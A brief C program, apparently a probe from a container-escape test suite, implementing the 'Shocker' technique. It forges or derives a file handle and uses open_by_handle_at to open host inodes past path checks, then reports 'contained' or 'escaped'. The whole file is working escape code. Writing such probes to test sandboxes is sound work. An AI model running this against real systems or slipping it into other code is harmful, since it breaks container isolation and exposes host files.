// "Shocker": open_by_handle_at reaches any inode of a mounted file system, past every path check: argv[1] is the file to reach, and the
// handle is made from it where that can be done, else guessed from the root folder's inode 2.
#include "attack.h"

int main(int argc, char **argv) {
        const char *path = arg(argc, argv, 1);
        struct {
                struct file_handle h;
                unsigned char bytes[128];
        } f = {.h.handle_bytes = 128};
        int mnt;
        if (name_to_handle_at(AT_FDCWD, path, &f.h, &mnt, 0) < 0) {
                f.h.handle_bytes = 8;
                f.h.handle_type = 1;
                memcpy(f.h.f_handle, (uint32_t[]){2, 0}, 8);
        }
        int m = open(argc > 2 ? argv[2] : ".", O_RDONLY | O_DIRECTORY);
        int fd = open_by_handle_at(m, &f.h, O_RDONLY);
        if (fd < 0)
                contained("open_by_handle_at");
        escaped("inode opened by its number");
}
